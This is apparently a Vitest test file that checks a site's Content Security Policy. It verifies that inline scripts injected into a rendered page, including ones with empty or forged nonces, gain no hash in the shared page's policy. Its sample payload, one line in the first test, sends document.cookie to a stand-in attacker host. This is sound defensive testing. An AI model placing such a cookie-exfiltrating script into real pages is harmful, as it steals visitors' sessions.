import { createHash } from "node:crypto";
import { beforeAll, describe, expect, it } from "vitest";
import { hashSignedScripts } from "../../server/script-hashes.ts";
import { type SharedWeb, sharedWeb } from "../support/shared-web.ts";

let web: SharedWeb;
beforeAll(async () => {
  web = await sharedWeb();
});

const hashOf = (code: string) => `'sha256-${createHash("sha256").update(code).digest("base64")}'`;

describe("given a rendered page into which somebody injected inline scripts", () => {
  it("the policy of the shared page allows the scripts of the site, and none of the injected ones", async () => {
    // With a cookie the page is rendered for one visitor, and keeps its nonce.
    const own = await fetch(`${web.origin}/chefs`, { headers: { cookie: "a=b" } });
    const nonce = /'nonce-([^']+)'/.exec(own.headers.get("content-security-policy") ?? "")?.[1] ?? "";
    const rendered = await own.text();
    expect(rendered).toContain(` nonce="${nonce}"`);
    const attack = "fetch('https://attaquant.exemple.fr/' + document.cookie)";
    const injected = rendered.replace(
      "</body>",
      `<script>${attack}</script><script nonce="">${attack}</script><SCRIPT nonce="AAAA">${attack}</SCRIPT></body>`,
    );
    expect(injected).not.toBe(rendered);
    const signed = hashSignedScripts(injected, nonce);
    expect(signed.hashes.length).toBeGreaterThan(0);
    expect(signed.hashes).toEqual(hashSignedScripts(rendered, nonce).hashes);
    expect(signed.hashes).not.toContain(hashOf(attack));
    expect(signed.html).not.toContain(nonce);
  });

  it("the shared page itself has no nonce, and one hash for each of its inline scripts", async () => {
    const shared = await fetch(`${web.origin}/chefs`);
    const policy = shared.headers.get("content-security-policy") ?? "";
    const page = await shared.text();
    expect(page).not.toContain("nonce=");
    const codes = [...page.matchAll(/<script(?![^>]*(?: src=|ld\+json))[^>]*>([^]*?)<\/script>/g)].map(
      ([, code = ""]) => code,
    );
    expect(codes.length).toBeGreaterThan(0);
    expect(codes.filter((code) => !policy.includes(hashOf(code)))).toEqual([]);
  });
});
